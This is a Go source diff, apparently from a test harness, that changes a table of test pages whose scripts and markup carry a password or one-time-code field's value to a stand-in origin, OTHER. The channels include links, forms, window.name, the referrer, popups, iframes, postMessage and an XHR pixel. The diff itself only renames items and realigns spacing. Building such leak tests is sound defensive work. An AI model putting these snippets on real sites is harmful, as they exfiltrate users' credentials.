@@ -8,7 +8,7 @@ type page struct {
 	field  string // #f; an input of type password where it is ""
 	body   string // what else is on it, after #out
 	script string // show(v) is called with what #f holds, after each input
-	reads  []read // where an agent reads, beside #f, #g and #out
+	reads  []read // where an agent reads, next to #f, #g and #out
 	drawn  bool   // it may be seen in pictures
 }
 
@@ -133,20 +133,20 @@ var pages = map[string]*page{
 		script: `by('grab').addEventListener('dragstart', (e) => e.dataTransfer.setData('text/plain', f.value))`},
 	"links": {body: `<a id=go href="OTHER/">Look it up elsewhere</a>`,
 		script: `show = (v) => { by('go').href = 'OTHER/find?q=' + encodeURIComponent(v) }`, reads: []read{{target: "#go", attribute: "href"}}},
-	"links-path":   {body: `<a id=go href="OTHER/">Look it up elsewhere</a>`, script: `show = (v) => { by('go').href = 'OTHER/is/' + btoa(v) + '/there' }`, reads: []read{{target: "#go", attribute: "href"}}},
-	"links-piece":  {body: `<a id=go href="OTHER/">Look it up elsewhere</a>`, script: `show = (v) => { by('go').href = 'OTHER/find?q=' + encodeURIComponent(v.slice(2, 12)) }`, reads: []read{{target: "#go", attribute: "href"}}},
-	"form-get":     {body: `<form id=away action="OTHER/find"><input type=hidden name=q id=q><button id=go>Look it up elsewhere</button></form>`, script: `show = (v) => { by('q').value = v }`},
-	"form-post":    {body: `<form id=away method=post action="OTHER/find"><input type=hidden name=q id=q><button id=go>Look it up elsewhere</button></form>`, script: `show = (v) => { by('q').value = v }`},
-	"form-field":   {body: `<button id=go form=form formaction="OTHER/find" formmethod=post>Log in with Elsewhere</button>`},
-	"form-multi":   {body: `<form id=away method=post enctype=multipart/form-data action="OTHER/find"><input type=hidden name=q id=q><button id=go>Look it up elsewhere</button></form>`, script: `show = (v) => { by('q').value = v }`},
-	"window-name":  {body: `<a id=go href="OTHER/">Elsewhere</a>`, script: `show = (v) => { name = v }`},
-	"referrer":     {body: `<meta name=referrer content=unsafe-url><a id=go href="OTHER/" referrerpolicy=unsafe-url>Elsewhere</a>`, script: `show = (v) => history.replaceState(0, '', '?f=' + encodeURIComponent(v))`},
-	"popup-away":   {body: `<button id=go type=button>Elsewhere</button>`, script: `by('go').onclick = () => open('OTHER/pop?q=' + encodeURIComponent(f.value))`},
-	"assigns":      {body: `<button id=go type=button>Elsewhere</button>`, script: `by('go').onclick = () => { location = 'OTHER/find#' + encodeURIComponent(f.value) }`},
-	"frame-away":   {body: `<iframe id=there style="width: 600px; height: 200px"></iframe><button id=go type=button>Elsewhere</button>`, script: `by('go').onclick = () => { by('there').src = 'OTHER/in?q=' + encodeURIComponent(f.value) }`},
-	"messages":     {body: `<iframe id=there src="OTHER/" style="width: 600px; height: 200px"></iframe><button id=go type=button>Send it</button>`, script: `by('go').onclick = () => by('there').contentWindow.postMessage(f.value, '*')`},
-	"image-away":   {body: `<button id=go type=button>Elsewhere</button>`, script: `by('go').onclick = () => { const x = new XMLHttpRequest(); x.open('GET', 'OTHER/pixel?q=' + encodeURIComponent(f.value), false); try { x.send() } catch {} }`},
-	"beside-other": {field: `<input id=f name=f autocomplete=one-time-code>`, body: `<iframe id=there src="OTHER/" style="width: 600px; height: 300px"></iframe>`},
+	"links-path":    {body: `<a id=go href="OTHER/">Look it up elsewhere</a>`, script: `show = (v) => { by('go').href = 'OTHER/is/' + btoa(v) + '/there' }`, reads: []read{{target: "#go", attribute: "href"}}},
+	"links-piece":   {body: `<a id=go href="OTHER/">Look it up elsewhere</a>`, script: `show = (v) => { by('go').href = 'OTHER/find?q=' + encodeURIComponent(v.slice(2, 12)) }`, reads: []read{{target: "#go", attribute: "href"}}},
+	"form-get":      {body: `<form id=away action="OTHER/find"><input type=hidden name=q id=q><button id=go>Look it up elsewhere</button></form>`, script: `show = (v) => { by('q').value = v }`},
+	"form-post":     {body: `<form id=away method=post action="OTHER/find"><input type=hidden name=q id=q><button id=go>Look it up elsewhere</button></form>`, script: `show = (v) => { by('q').value = v }`},
+	"form-field":    {body: `<button id=go form=form formaction="OTHER/find" formmethod=post>Log in with Elsewhere</button>`},
+	"form-multi":    {body: `<form id=away method=post enctype=multipart/form-data action="OTHER/find"><input type=hidden name=q id=q><button id=go>Look it up elsewhere</button></form>`, script: `show = (v) => { by('q').value = v }`},
+	"window-name":   {body: `<a id=go href="OTHER/">Elsewhere</a>`, script: `show = (v) => { name = v }`},
+	"referrer":      {body: `<meta name=referrer content=unsafe-url><a id=go href="OTHER/" referrerpolicy=unsafe-url>Elsewhere</a>`, script: `show = (v) => history.replaceState(0, '', '?f=' + encodeURIComponent(v))`},
+	"popup-away":    {body: `<button id=go type=button>Elsewhere</button>`, script: `by('go').onclick = () => open('OTHER/pop?q=' + encodeURIComponent(f.value))`},
+	"assigns":       {body: `<button id=go type=button>Elsewhere</button>`, script: `by('go').onclick = () => { location = 'OTHER/find#' + encodeURIComponent(f.value) }`},
+	"frame-away":    {body: `<iframe id=there style="width: 600px; height: 200px"></iframe><button id=go type=button>Elsewhere</button>`, script: `by('go').onclick = () => { by('there').src = 'OTHER/in?q=' + encodeURIComponent(f.value) }`},
+	"messages":      {body: `<iframe id=there src="OTHER/" style="width: 600px; height: 200px"></iframe><button id=go type=button>Send it</button>`, script: `by('go').onclick = () => by('there').contentWindow.postMessage(f.value, '*')`},
+	"image-away":    {body: `<button id=go type=button>Elsewhere</button>`, script: `by('go').onclick = () => { const x = new XMLHttpRequest(); x.open('GET', 'OTHER/pixel?q=' + encodeURIComponent(f.value), false); try { x.send() } catch {} }`},
+	"next-to-other": {field: `<input id=f name=f autocomplete=one-time-code>`, body: `<iframe id=there src="OTHER/" style="width: 600px; height: 300px"></iframe>`},
 
 	// A second page of the site, dialogs, and what else repeats what was typed.
 	"second":   {body: `<a id=go href=/p/stored>Next</a>`, script: `show = (v) => { sessionStorage.typed = v }`},
